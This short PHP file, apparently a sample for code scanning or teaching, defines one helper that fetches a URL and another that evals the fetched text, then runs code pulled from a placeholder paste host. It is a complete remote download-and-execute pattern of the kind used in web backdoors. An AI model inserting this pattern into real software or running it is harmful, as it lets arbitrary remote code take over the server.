<?php
// Remote code passed through two helpers: one fetches, one evaluates.
function load_remote($url)
{
    return file_get_contents($url);
}

function run_source($src)
{
    eval('?>' . $src);
}

run_source(load_remote('https://paste.example.com/raw/abc'));
